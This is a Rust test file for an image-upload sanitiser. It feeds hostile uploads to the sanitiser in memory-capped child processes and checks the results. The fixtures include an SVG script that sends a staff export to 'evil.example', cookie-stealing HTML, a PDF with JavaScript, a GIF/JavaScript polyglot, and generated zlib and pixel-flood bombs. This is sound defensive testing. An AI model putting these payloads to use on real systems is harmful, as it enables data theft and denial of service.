//! Hostile uploads against `images::sanitise`, every file built here from bytes and the image
//! crate's encoders (nothing is fetched).
//!
//! A limit that is only believed is worthless, so each case runs in a child process of this
//! binary under a 256 MiB address-space cap (`ulimit -v`): an allocation past it kills the
//! child, and the case fails. The child also reports its peak resident memory during
//! `sanitise` (from /proc) and the time it took; the parent checks both. A control case checks
//! that the cap is real.

use std::io::Write as _;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use image::codecs::jpeg::JpegEncoder;
use image::codecs::png::PngEncoder;
use image::codecs::webp::WebPEncoder;
use image::{DynamicImage, ExtendedColorType, GenericImageView, ImageEncoder, ImageFormat};
use image::{Rgb, RgbImage, Rgba, RgbaImage};
use tadamun::images::{CleanImage, ImageError, Limits, Output, sanitise};

const LOGO: Output = Output::Png { max_side: 512 };
const PHOTO: Output = Output::Jpeg {
    max_side: 2048,
    quality: 85,
};

/// The name of the case a child process runs; unset, `one_case_in_a_child` does nothing.
const CASE_VAR: &str = "TADAMUN_IMAGES_CASE";
const CAP_KIB: u64 = 256 * 1024;
/// Peak resident memory while `sanitise` runs: under 256 MB.
const PEAK_MAX_KIB: u64 = 256_000_000 / 1024;
const MAX_TIME: Duration = Duration::from_secs(2);
/// For `Case::heavy` in a debug build: the decoders and encoders are then unoptimised.
const MAX_TIME_HEAVY_DEBUG: Duration = Duration::from_secs(12);
/// The control case: allocating more than the cap must kill the child.
const CONTROL: &str = "control: 300 MiB allocated under the cap";

enum Expect {
    Refused(ImageError),
    /// Re-encoded, with these dimensions.
    Clean(u32, u32),
}

struct Case {
    name: &'static str,
    make: fn() -> Vec<u8>,
    limits: Limits,
    output: Output,
    expect: Expect,
    /// Bytes planted in the upload (the test checks they are there) that must not come out.
    planted: &'static [&'static str],
    /// Decodes as many pixels as the limits allow: in a debug build, where the decoders run
    /// unoptimised, it may take longer than `MAX_TIME` (never in a release build).
    heavy: bool,
    /// A bound tighter than the cap, for a small picture in a file that claims much more.
    max_kib: u64,
    /// A look at the pixels, for cases where what they show matters.
    pixels: Option<fn(&DynamicImage)>,
}

fn case(
    name: &'static str,
    make: fn() -> Vec<u8>,
    limits: Limits,
    output: Output,
    expect: Expect,
) -> Case {
    Case {
        name,
        make,
        limits,
        output,
        expect,
        planted: &[],
        heavy: false,
        max_kib: PEAK_MAX_KIB,
        pixels: None,
    }
}

impl Case {
    fn planted(mut self, planted: &'static [&'static str]) -> Case {
        self.planted = planted;
        self
    }
    fn heavy(mut self) -> Case {
        self.heavy = true;
        self
    }
    fn within_kib(mut self, max_kib: u64) -> Case {
        self.max_kib = max_kib;
        self
    }
    fn pixels(mut self, check: fn(&DynamicImage)) -> Case {
        self.pixels = Some(check);
        self
    }
}

fn cases() -> Vec<Case> {
    use Expect::{Clean, Refused};
    use ImageError::{Corrupt, Empty, NotAnImage, TooManyPixels};
    let logo = Limits::LOGO;
    let photo = Limits::PHOTO;
    vec![
        // Not images at all, whatever they are called.
        case("empty", Vec::new, logo, LOGO, Refused(Empty)),
        case("one byte", || vec![0xFF], logo, LOGO, Refused(NotAnImage)),
        case(
            "one byte over the limit",
            || {
                let mut png = small_png();
                png.resize(Limits::LOGO.max_bytes + 1, 0);
                png
            },
            logo,
            LOGO,
            Refused(ImageError::TooLarge {
                max_bytes: Limits::LOGO.max_bytes,
            }),
        ),
        case("SVG with a script", svg, logo, LOGO, Refused(NotAnImage)),
        case("HTML named logo.png", html, logo, LOGO, Refused(NotAnImage)),
        case("PDF", pdf, photo, PHOTO, Refused(NotAnImage)),
        case("ZIP", zip, photo, PHOTO, Refused(NotAnImage)),
        case(
            "JPEG signature, then HTML",
            || [&[0xFF, 0xD8, 0xFF][..], html().as_slice()].concat(),
            photo,
            PHOTO,
            Refused(Corrupt),
        ),
        case(
            "GIF/JavaScript polyglot",
            gif_js_polyglot,
            logo,
            LOGO,
            Refused(TooManyPixels),
        ),
        // Pixel floods: a header claiming more pixels than the limits, and a tiny body.
        case(
            "PNG claiming 100000x100000",
            png_flood,
            logo,
            LOGO,
            Refused(TooManyPixels),
        ),
        case(
            "PNG 8000x8000: each side allowed, the pixels not",
            png_8000,
            photo,
            PHOTO,
            Refused(TooManyPixels),
        ),
        case(
            "JPEG claiming 60000x60000",
            jpeg_flood,
            photo,
            PHOTO,
            Refused(TooManyPixels),
        ),
        case(
            "GIF screen 60000x60000",
            gif_flood,
            logo,
            LOGO,
            Refused(TooManyPixels),
        ),
        case(
            "GIF frame 60000x60000 in a 16x16 screen",
            gif_frame_flood,
            logo,
            LOGO,
            Refused(TooManyPixels),
        ),
        case(
            "WebP VP8X canvas 100000x100000",
            webp_canvas_flood,
            photo,
            PHOTO,
            Refused(TooManyPixels),
        ),
        case(
            "WebP lossless header 16384x16384",
            webp_lossless_flood,
            photo,
            PHOTO,
            Refused(TooManyPixels),
        ),
        case(
            "WebP lossy header 16383x16383",
            webp_lossy_flood,
            photo,
            PHOTO,
            Refused(TooManyPixels),
        ),
        // Memory at the limits: allowed sizes whose decoding is the most expensive.
        case(
            "progressive JPEG 4096x4096 as a logo (coefficients over max_alloc)",
            || progressive_jpeg(4096, 4096),
            logo,
            LOGO,
            Refused(TooManyPixels),
        ),
        case(
            "progressive JPEG 4096x4096 as a photo: at the limit, 100 scans (the decoder's most)",
            || progressive_jpeg_scans(4096, 4096, 99),
            photo,
            PHOTO,
            Clean(2048, 2048),
        )
        .heavy(),
        case(
            "progressive JPEG 4096x4096 with 300 scans",
            || progressive_jpeg_scans(4096, 4096, 299),
            photo,
            PHOTO,
            Refused(Corrupt),
        ),
        case(
            "PNG zlib bomb: 4096x4096 16-bit RGBA (128 MiB of pixels)",
            || png_zeros(4096, 4096, 6, 16),
            logo,
            LOGO,
            Clean(512, 512),
        )
        .heavy(),
        case(
            "PNG zlib bomb: 4096x4096 RGBA, Adam7-interlaced",
            png_interlaced_bomb,
            logo,
            LOGO,
            Clean(512, 512),
        )
        .heavy(),
        case(
            "WebP lossless 4096x4096 from 30 bytes (no alpha: a second buffer)",
            || webp_lossless_blank(4096, 4096, false),
            logo,
            LOGO,
            Clean(512, 512),
        )
        .heavy(),
        case(
            "PNG zlib bomb: 64x64 whose IDAT inflates to 250 MB",
            png_excess_bomb,
            logo,
            LOGO,
            Clean(64, 64),
        )
        .within_kib(32 * 1024),
        case(
            "PNG iCCP zlib bomb (250 MB profile)",
            png_iccp_bomb,
            logo,
            LOGO,
            Clean(64, 48),
        )
        .within_kib(32 * 1024),
        // Cut short.
        case(
            "PNG cut in its IDAT",
            || truncated(small_png(), 0.6),
            logo,
            LOGO,
            Refused(Corrupt),
        ),
        case(
            "JPEG cut in its headers",
            || small_jpeg()[..120].to_vec(),
            photo,
            PHOTO,
            Refused(Corrupt),
        ),
        case(
            "JPEG cut in its scan",
            || truncated(small_jpeg(), 0.7),
            photo,
            PHOTO,
            Clean(64, 48),
        ),
        case(
            "GIF cut in its frame",
            || truncated(small_gif(), 0.7),
            logo,
            LOGO,
            Refused(Corrupt),
        ),
        case(
            "WebP cut short",
            || truncated(small_webp(), 0.6),
            logo,
            LOGO,
            Refused(Corrupt),
        ),
        case(
            "WebP EXIF chunk claiming 4 GiB",
            webp_exif_claims_4_gib,
            photo,
            PHOTO,
            Refused(Corrupt),
        ),
        // Polyglots: an image with something else appended.
        case("PNG + appended HTML", png_html, logo, LOGO, Clean(64, 48))
            .planted(&["<html", "<script", "alert("]),
        case("JPEG + appended ZIP", jpeg_zip, photo, PHOTO, Clean(64, 48)).planted(&[
            "PK\u{3}\u{4}",
            "PK\u{5}\u{6}",
            "evil.html",
            "<script",
        ]),
        case(
            "GIF + appended script",
            gif_script,
            logo,
            LOGO,
            Clean(16, 16),
        )
        .planted(&["<script", "alert("]),
        case("WebP + appended HTML", webp_html, logo, LOGO, Clean(64, 48))
            .planted(&["<html", "<script"]),
        // Metadata.
        case(
            "JPEG with EXIF GPS",
            jpeg_exif_gps,
            photo,
            PHOTO,
            Clean(64, 48),
        )
        .planted(&["Exif", "GPS", "33.5138"]),
        case("JPEG with XMP", jpeg_xmp, photo, PHOTO, Clean(64, 48)).planted(&[
            "http://ns.adobe.com/xap/1.0/",
            "xmpmeta",
            "GPSLatitude",
        ]),
        case(
            "JPEG with an EXIF thumbnail",
            jpeg_exif_thumbnail,
            photo,
            PHOTO,
            Clean(64, 48),
        )
        .planted(&["Exif", "THUMBNAIL-OF-THE-UNCROPPED-PHOTO"]),
        case(
            "JPEG with a COM comment",
            jpeg_comment,
            photo,
            PHOTO,
            Clean(64, 48),
        )
        .planted(&["meet at the square at six"]),
        case(
            "JPEG with an ICC profile (APP2)",
            jpeg_icc,
            photo,
            PHOTO,
            Clean(64, 48),
        )
        .planted(&["ICC_PROFILE", "PROFILE-OF-THIS-CAMERA"]),
        case(
            "JPEG as a logo, with EXIF GPS",
            jpeg_exif_gps,
            logo,
            LOGO,
            Clean(64, 48),
        )
        .planted(&["Exif", "GPS", "33.5138"]),
        case(
            "PNG with tEXt, zTXt, iTXt (XMP), eXIf, iCCP",
            png_metadata,
            logo,
            LOGO,
            Clean(64, 48),
        )
        .planted(&[
            "tEXt", "zTXt", "iTXt", "eXIf", "iCCP", "xmpmeta", "GPS", "Author",
        ]),
        case(
            "WebP with EXIF, XMP and ICCP (VP8X)",
            webp_metadata,
            logo,
            LOGO,
            Clean(64, 48),
        )
        .planted(&["EXIF", "XMP ", "ICCP", "xmpmeta", "GPS", "33.5138"]),
        case(
            "GIF comment extension",
            gif_comment,
            logo,
            LOGO,
            Clean(16, 16),
        )
        .planted(&["meet at the square at six"]),
        case(
            "GIF XMP application extension",
            gif_xmp,
            logo,
            LOGO,
            Clean(16, 16),
        )
        .planted(&["XMP DataXMP", "xmpmeta"]),
        case(
            "animated GIF with 2000 frames: the first only",
            gif_animated,
            logo,
            LOGO,
            Clean(16, 16),
        )
        .pixels(|image| assert_near(image.get_pixel(8, 8), [255, 0, 0, 255])),
        // Orientation: turned as the EXIF says, then forgotten.
        case(
            "JPEG with EXIF orientation 6",
            jpeg_orientation_6,
            photo,
            PHOTO,
            Clean(40, 80),
        )
        .planted(&["Exif"])
        .pixels(|image| {
            // Turned a quarter clockwise: the red left half is now on top.
            assert_near(image.get_pixel(20, 10), [255, 0, 0, 255]);
            assert_near(image.get_pixel(20, 70), [0, 0, 255, 255]);
        }),
        case(
            "PNG with eXIf orientation 6 and GPS",
            png_orientation_6,
            logo,
            LOGO,
            Clean(40, 80),
        )
        .planted(&["eXIf", "GPS"])
        .pixels(|image| {
            assert_near(image.get_pixel(20, 10), [255, 0, 0, 255]);
            assert_near(image.get_pixel(20, 70), [0, 0, 255, 255]);
        }),
        case(
            "WebP with EXIF orientation 8",
            webp_orientation_8,
            logo,
            LOGO,
            Clean(40, 80),
        )
        .planted(&["EXIF", "GPS 33.5138"])
        .pixels(|image| {
            // Turned a quarter anticlockwise: the red left half is now at the bottom.
            assert_near(image.get_pixel(20, 70), [255, 0, 0, 255]);
            assert_near(image.get_pixel(20, 10), [0, 0, 255, 255]);
        }),
        // Ordinary uploads.
        case(
            "PNG logo with alpha",
            logo_with_alpha,
            logo,
            LOGO,
            Clean(512, 384),
        )
        .pixels(|image| {
            assert!(image.color().has_alpha(), "the logo keeps its transparency");
            assert_eq!(
                image.get_pixel(0, 0).0[3],
                0,
                "a transparent corner stays so"
            );
            assert_near(image.get_pixel(256, 192), [0, 128, 0, 255]);
        }),
        case(
            "small PNG logo stays its size",
            small_png,
            logo,
            LOGO,
            Clean(64, 48),
        ),
        case(
            "PNG with alpha as a photo: onto white",
            logo_with_alpha,
            photo,
            PHOTO,
            Clean(800, 600),
        )
        .pixels(|image| {
            assert_near(image.get_pixel(0, 0), [255, 255, 255, 255]);
            assert_near(image.get_pixel(400, 300), [0, 128, 0, 255]);
        }),
        case(
            "JPEG photo 3000x2000",
            large_photo,
            photo,
            PHOTO,
            Clean(2048, 1365),
        )
        .heavy(),
        case("GIF logo", small_gif, logo, LOGO, Clean(16, 16)),
        case(
            "GIF whose first frame is smaller than its screen",
            gif_offset_frame,
            logo,
            LOGO,
            Clean(32, 32),
        )
        .pixels(|image| {
            assert_near(image.get_pixel(16, 16), [255, 0, 0, 255]);
            assert_eq!(
                image.get_pixel(2, 2).0[3],
                0,
                "outside the frame: transparent"
            );
        }),
        case("WebP logo", small_webp, logo, LOGO, Clean(64, 48)),
    ]
}

/// Runs every case in its own capped child process, one at a time (the timings stay honest).
#[test]
fn every_upload_in_a_child_under_a_256_mib_cap() {
    let exe = std::env::current_exe().expect("this test binary");
    let dir = tempfile::tempdir().expect("a folder for the children's output");

    // The cap is real: a child allocating past it dies.
    let control = run_child(&exe, dir.path(), CONTROL);
    assert!(
        !control.success,
        "a child allocating 300 MiB under a 256 MiB cap succeeded: the cap does not hold\n{}",
        control.output
    );

    let mut failures = Vec::new();
    let mut report = Vec::new();
    let (mut worst_ms, mut worst_kib) = ((0, ""), (0, ""));
    for case in cases() {
        let run = run_child(&exe, dir.path(), case.name);
        // The harness prints "test one_case_in_a_child ... " before the child's line.
        let Some(line) = run
            .output
            .lines()
            .find_map(|l| Some(l.split_once("RESULT ")?.1))
        else {
            failures.push(format!("{}: the child failed\n{}", case.name, run.output));
            continue;
        };
        let field = |key: &str| -> u64 {
            line.split(' ')
                .find_map(|f| f.strip_prefix(key))
                .and_then(|v| v.parse().ok())
                .unwrap_or(u64::MAX)
        };
        let (ms, kib) = (field("ms="), field("peak_kib="));
        let allowed = if case.heavy && cfg!(debug_assertions) {
            MAX_TIME_HEAVY_DEBUG
        } else {
            MAX_TIME
        };
        if ms > allowed.as_millis() as u64 {
            failures.push(format!("{}: took {ms} ms", case.name));
        }
        if kib >= case.max_kib {
            failures.push(format!("{}: peak memory {kib} KiB", case.name));
        }
        worst_ms = worst_ms.max((ms, case.name));
        worst_kib = worst_kib.max((kib, case.name));
        report.push(format!("{:<72} {line}", case.name));
    }
    // The table through the harness (shown on failure, or with --nocapture); the worst case
    // past its capture, so every `cargo test` shows it.
    for line in &report {
        eprintln!("{line}");
    }
    let _ = writeln!(
        std::io::stderr().lock(),
        "images: {} uploads, worst time {} ms ({}), worst peak {} KiB ({})",
        report.len(),
        worst_ms.0,
        worst_ms.1,
        worst_kib.0,
        worst_kib.1
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

struct ChildRun {
    success: bool,
    output: String,
}

fn run_child(exe: &Path, dir: &Path, name: &str) -> ChildRun {
    let file = |suffix: &str| {
        let slug: String = name
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
            .collect();
        dir.join(format!("{slug}.{suffix}"))
    };
    let (out_path, err_path) = (file("out"), file("err"));
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -v {CAP_KIB} && exec \"$0\" \"$@\""))
        .arg(exe)
        .args([
            "--exact",
            "one_case_in_a_child",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(CASE_VAR, name)
        // glibc reserves 64 MiB of address space per thread arena; with one arena the cap
        // measures what is allocated, not what is reserved.
        .env("MALLOC_ARENA_MAX", "1")
        .stdout(std::fs::File::create(&out_path).expect("child stdout"))
        .stderr(std::fs::File::create(&err_path).expect("child stderr"))
        .spawn()
        .expect("starting the child");
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().expect("waiting for the child") {
            break Some(status);
        }
        if started.elapsed() > Duration::from_secs(60) {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let output = format!(
        "status: {status:?}\n{}{}",
        std::fs::read_to_string(&out_path).unwrap_or_default(),
        std::fs::read_to_string(&err_path).unwrap_or_default()
    );
    ChildRun {
        success: status.is_some_and(|s| s.success()),
        output,
    }
}

/// One case, in the child process the test above starts; without `CASE_VAR`, nothing.
#[test]
fn one_case_in_a_child() {
    let Ok(name) = std::env::var(CASE_VAR) else {
        return;
    };
    if name == CONTROL {
        let big = vec![1u8; 300 * 1024 * 1024];
        println!("RESULT allocated {}", std::hint::black_box(&big).len());
        return;
    }
    let case = cases()
        .into_iter()
        .find(|c| c.name == name)
        .expect("a known case");
    let input = (case.make)();
    for marker in case.planted {
        assert!(
            contains(&input, marker.as_bytes()),
            "the upload should contain {marker:?}"
        );
    }
    reset_peak_memory();
    let started = Instant::now();
    let result = sanitise(&input, &case.limits, case.output);
    let ms = started.elapsed().as_millis();
    let peak_kib = peak_memory_kib();
    let outcome = match (&case.expect, &result) {
        (Expect::Refused(expected), Err(error)) => {
            assert_eq!(error, expected, "refused for another reason");
            assert!(error.message_id().starts_with("image-error-"));
            format!("refused:{error:?}")
        }
        (Expect::Clean(width, height), Ok(clean)) => {
            check_clean(&case, clean, (*width, *height));
            format!(
                "clean:{}x{}:{}:{}B",
                clean.width,
                clean.height,
                clean.mime,
                clean.bytes.len()
            )
        }
        (Expect::Refused(expected), Ok(clean)) => {
            panic!("expected {expected:?}, got {clean:?}")
        }
        (Expect::Clean(..), Err(error)) => panic!("expected an image, got {error:?}"),
    };
    println!("RESULT {outcome} ms={ms} peak_kib={peak_kib}");
}

/// The output is a new file: it decodes, has the expected size, ends where its format ends,
/// carries no metadata segment or chunk, and none of the planted bytes.
fn check_clean(case: &Case, clean: &CleanImage, (width, height): (u32, u32)) {
    assert_eq!((clean.width, clean.height), (width, height));
    let format = match case.output {
        Output::Png { .. } => {
            assert_eq!(clean.mime, "image/png");
            assert_eq!(png_chunk_kinds(&clean.bytes), ["IHDR", "IDAT", "IEND"]);
            ImageFormat::Png
        }
        Output::Jpeg { .. } => {
            assert_eq!(clean.mime, "image/jpeg");
            check_jpeg_segments(&clean.bytes);
            ImageFormat::Jpeg
        }
    };
    let decoded = image::load_from_memory_with_format(&clean.bytes, format)
        .expect("the output decodes again");
    assert_eq!(decoded.dimensions(), (width, height));
    for marker in case.planted {
        assert!(
            !contains(&clean.bytes, marker.as_bytes()),
            "{marker:?} survived"
        );
    }
    for marker in [
        "Exif",
        "xmpmeta",
        "ICC_PROFILE",
        "<html",
        "<script",
        "PK\u{3}\u{4}",
    ] {
        assert!(
            !contains(&clean.bytes, marker.as_bytes()),
            "{marker:?} in the output"
        );
    }
    if let Some(check) = case.pixels {
        check(&decoded);
    }
}

/// The kinds of a PNG's chunks; the last one must end the file exactly.
fn png_chunk_kinds(png: &[u8]) -> Vec<String> {
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"));
    let mut kinds = Vec::new();
    let mut at = 8;
    while at < png.len() {
        let len = u32::from_be_bytes(png[at..at + 4].try_into().unwrap()) as usize;
        let kind = String::from_utf8_lossy(&png[at + 4..at + 8]).into_owned();
        let crc = u32::from_be_bytes(png[at + 8 + len..at + 12 + len].try_into().unwrap());
        assert_eq!(crc, crc32(&png[at + 4..at + 8 + len]), "CRC of {kind}");
        at += 12 + len;
        if kinds.last().is_none_or(|k| *k != kind) {
            kinds.push(kind);
        }
    }
    assert_eq!(at, png.len(), "the last chunk ends the file");
    assert!(png.ends_with(&[0, 0, 0, 0, b'I', b'E', b'N', b'D', 0xAE, 0x42, 0x60, 0x82]));
    kinds
}

/// A JPEG with one SOI, no APPn but the JFIF APP0, no COM, and nothing after its EOI.
fn check_jpeg_segments(jpeg: &[u8]) {
    assert!(jpeg.starts_with(&[0xFF, 0xD8]));
    assert!(jpeg.ends_with(&[0xFF, 0xD9]), "the file ends with EOI");
    let soi = jpeg.windows(2).filter(|w| *w == [0xFF, 0xD8]).count();
    assert_eq!(soi, 1, "one image, no embedded thumbnail");
    let mut at = 2;
    loop {
        assert_eq!(jpeg[at], 0xFF, "a marker at {at}");
        let marker = jpeg[at + 1];
        assert!(
            !(0xE1..=0xEF).contains(&marker) && marker != 0xFE,
            "segment FF{marker:02X} in the output"
        );
        let len = u16::from_be_bytes([jpeg[at + 2], jpeg[at + 3]]) as usize;
        if marker == 0xE0 {
            assert_eq!(&jpeg[at + 4..at + 9], b"JFIF\0");
        }
        at += 2 + len;
        if marker == 0xDA {
            break;
        }
    }
}

fn assert_near(pixel: Rgba<u8>, expected: [u8; 4]) {
    let close = pixel
        .0
        .iter()
        .zip(expected)
        .all(|(a, b)| a.abs_diff(b) <= 40);
    assert!(close, "pixel {:?}, expected about {expected:?}", pixel.0);
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn truncated(mut bytes: Vec<u8>, keep: f64) -> Vec<u8> {
    bytes.truncate((bytes.len() as f64 * keep) as usize);
    bytes
}

/// Forgets the peak so far: what `sanitise` takes is measured, not building its input.
fn reset_peak_memory() {
    let _ = std::fs::write("/proc/self/clear_refs", "5");
}

fn peak_memory_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").expect("/proc/self/status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM")
}

// ---------------------------------------------------------------------------------------------
// Ordinary images, from the image crate's encoders.

/// Left half red, right half blue.
fn halves(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, _| {
        if x < width / 2 {
            Rgb([255, 0, 0])
        } else {
            Rgb([0, 0, 255])
        }
    })
}

fn gradient(width: u32, height: u32) -> RgbImage {
    RgbImage::from_fn(width, height, |x, y| {
        Rgb([(x * 255 / width) as u8, (y * 255 / height) as u8, 128])
    })
}

fn encode_jpeg(image: &RgbImage) -> Vec<u8> {
    let mut out = Vec::new();
    JpegEncoder::new_with_quality(&mut out, 90)
        .write_image(
            image,
            image.width(),
            image.height(),
            ExtendedColorType::Rgb8,
        )
        .expect("JPEG");
    out
}

fn encode_png(image: &DynamicImage) -> Vec<u8> {
    let mut out = Vec::new();
    image
        .write_with_encoder(PngEncoder::new(&mut out))
        .expect("PNG");
    out
}

fn encode_webp(image: &RgbaImage) -> Vec<u8> {
    let mut out = Vec::new();
    WebPEncoder::new_lossless(&mut out)
        .write_image(
            image,
            image.width(),
            image.height(),
            ExtendedColorType::Rgba8,
        )
        .expect("WebP");
    out
}

fn small_jpeg() -> Vec<u8> {
    encode_jpeg(&gradient(64, 48))
}

fn small_png() -> Vec<u8> {
    encode_png(&DynamicImage::ImageRgb8(gradient(64, 48)))
}

fn small_webp() -> Vec<u8> {
    encode_webp(&DynamicImage::ImageRgb8(gradient(64, 48)).to_rgba8())
}

fn large_photo() -> Vec<u8> {
    encode_jpeg(&gradient(3000, 2000))
}

/// 800×600: transparent, with an opaque green disc in the middle.
fn logo_with_alpha() -> Vec<u8> {
    let logo = RgbaImage::from_fn(800, 600, |x, y| {
        let (dx, dy) = (x as i32 - 400, y as i32 - 300);
        if dx * dx + dy * dy < 200 * 200 {
            Rgba([0, 128, 0, 255])
        } else {
            Rgba([0, 0, 0, 0])
        }
    });
    encode_png(&DynamicImage::ImageRgba8(logo))
}

// ---------------------------------------------------------------------------------------------
// Not images.

fn svg() -> Vec<u8> {
    br#"<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>fetch('/staff/export').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))</script><circle r="50"/></svg>"#.to_vec()
}

fn html() -> Vec<u8> {
    b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>".to_vec()
}

fn pdf() -> Vec<u8> {
    b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n".to_vec()
}

fn zip() -> Vec<u8> {
    let mut zip = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0".to_vec();
    zip.extend_from_slice(&[0; 12]);
    zip.extend_from_slice(&9u16.to_le_bytes());
    zip.extend_from_slice(&0u16.to_le_bytes());
    zip.extend_from_slice(b"evil.html<script>alert(1)</script>");
    zip.extend_from_slice(b"PK\x05\x06");
    zip.extend_from_slice(&[0; 18]);
    zip
}

/// Valid JavaScript that starts like a GIF: the "screen size" is the bytes `/*`.
fn gif_js_polyglot() -> Vec<u8> {
    let mut gif = b"GIF89a/*\x10\x00\x00\x00\x00".to_vec();
    gif.extend_from_slice(b"*/=alert(document.domain);//");
    gif.extend_from_slice(&[0x3B]);
    gif
}

// ---------------------------------------------------------------------------------------------
// PNG by hand.

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &byte in data {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = (data.len() as u32).to_be_bytes().to_vec();
    chunk.extend_from_slice(kind);
    chunk.extend_from_slice(data);
    let crc = crc32(&chunk[4..]);
    chunk.extend_from_slice(&crc.to_be_bytes());
    chunk
}

fn ihdr(width: u32, height: u32, color: u8, depth: u8) -> Vec<u8> {
    let mut data = width.to_be_bytes().to_vec();
    data.extend_from_slice(&height.to_be_bytes());
    data.extend_from_slice(&[depth, color, 0, 0, 0]);
    png_chunk(b"IHDR", &data)
}

fn png_of(chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    for chunk in chunks {
        png.extend_from_slice(chunk);
    }
    png
}

/// Inserts chunks after an encoded PNG's IHDR.
fn png_with(png: Vec<u8>, chunks: &[Vec<u8>]) -> Vec<u8> {
    let ihdr_end = 8 + 25;
    [&png[..ihdr_end], &chunks.concat(), &png[ihdr_end..]].concat()
}

/// A zlib stream of `n` zero bytes in about n/160 bytes: one literal, then matches of 258
/// bytes at distance 1, with the fixed Huffman codes.
fn zlib_zeros(n: usize) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        len: u32,
    }
    impl Bits {
        fn put(&mut self, value: u32, bits: u32) {
            self.acc |= u64::from(value) << self.len;
            self.len += bits;
            while self.len >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.len -= 8;
            }
        }
        /// Huffman codes go most significant bit first.
        fn code(&mut self, code: u32, bits: u32) {
            let reversed = code.reverse_bits() >> (32 - bits);
            self.put(reversed, bits);
        }
    }
    let mut bits = Bits {
        out: vec![0x78, 0x01],
        acc: 0,
        len: 0,
    };
    bits.put(1, 1); // the last block
    bits.put(1, 2); // fixed Huffman codes
    let literal_zero = |bits: &mut Bits| bits.code(0x30, 8);
    if n > 0 {
        literal_zero(&mut bits);
    }
    let rest = n.saturating_sub(1);
    for _ in 0..rest / 258 {
        bits.code(0xC5, 8); // length 258 (symbol 285)
        bits.code(0, 5); // distance 1
    }
    for _ in 0..rest % 258 {
        literal_zero(&mut bits);
    }
    bits.code(0, 7); // end of block (symbol 256)
    if bits.len > 0 {
        bits.put(0, 8 - bits.len);
    }
    // Adler-32 of zeros: a stays 1, b grows by 1 a byte.
    let adler = (((n % 65521) as u32) << 16) | 1;
    bits.out.extend_from_slice(&adler.to_be_bytes());
    bits.out
}

fn png_zeros(width: u32, height: u32, color: u8, depth: u8) -> Vec<u8> {
    let channels = match color {
        0 => 1,
        2 => 3,
        4 => 2,
        6 => 4,
        _ => unreachable!(),
    };
    let row = 1 + width as usize * channels * usize::from(depth) / 8;
    png_of(&[
        ihdr(width, height, color, depth),
        png_chunk(b"IDAT", &zlib_zeros(row * height as usize)),
        png_chunk(b"IEND", b""),
    ])
}

/// Interlaced, the decoder fills the picture in seven passes: enough zeros for all of them.
fn png_interlaced_bomb() -> Vec<u8> {
    let mut ihdr = ihdr(4096, 4096, 6, 8);
    ihdr[8 + 12] = 1; // interlace method: Adam7
    let crc = crc32(&ihdr[4..21]);
    ihdr[21..25].copy_from_slice(&crc.to_be_bytes());
    png_of(&[
        ihdr,
        png_chunk(b"IDAT", &zlib_zeros(4096 * (1 + 4096 * 4) * 2)),
        png_chunk(b"IEND", b""),
    ])
}

fn png_flood() -> Vec<u8> {
    png_of(&[
        ihdr(100_000, 100_000, 6, 8),
        png_chunk(b"IDAT", &zlib_zeros(1000)),
        png_chunk(b"IEND", b""),
    ])
}

fn png_8000() -> Vec<u8> {
    png_of(&[
        ihdr(8000, 8000, 2, 8),
        png_chunk(b"IDAT", &zlib_zeros(1000)),
        png_chunk(b"IEND", b""),
    ])
}

fn png_excess_bomb() -> Vec<u8> {
    png_of(&[
        ihdr(64, 64, 0, 8),
        png_chunk(b"IDAT", &zlib_zeros(250_000_000)),
        png_chunk(b"IEND", b""),
    ])
}

fn png_iccp_bomb() -> Vec<u8> {
    let mut iccp = b"bomb\0\0".to_vec();
    iccp.extend_from_slice(&zlib_zeros(250_000_000));
    png_with(small_png(), &[png_chunk(b"iCCP", &iccp)])
}

fn png_html() -> Vec<u8> {
    [small_png(), html()].concat()
}

fn png_metadata() -> Vec<u8> {
    let mut itxt = b"XML:com.adobe.xmp\0\0\0\0\0".to_vec();
    itxt.extend_from_slice(xmp().as_bytes());
    let mut ztxt = b"Comment\0\0".to_vec();
    ztxt.extend_from_slice(&zlib_zeros(100));
    let mut iccp = b"camera\0\0".to_vec();
    iccp.extend_from_slice(&zlib_zeros(500));
    png_with(
        small_png(),
        &[
            png_chunk(b"iCCP", &iccp),
            png_chunk(b"tEXt", b"Author\0A. Person, +963 11 000 0000"),
            png_chunk(b"zTXt", &ztxt),
            png_chunk(b"iTXt", &itxt),
            png_chunk(b"eXIf", &tiff(1, true, None)),
        ],
    )
}

fn png_orientation_6() -> Vec<u8> {
    png_with(
        encode_png(&DynamicImage::ImageRgb8(halves(80, 40))),
        &[png_chunk(b"eXIf", &tiff(6, true, None))],
    )
}

// ---------------------------------------------------------------------------------------------
// JPEG segments by hand.

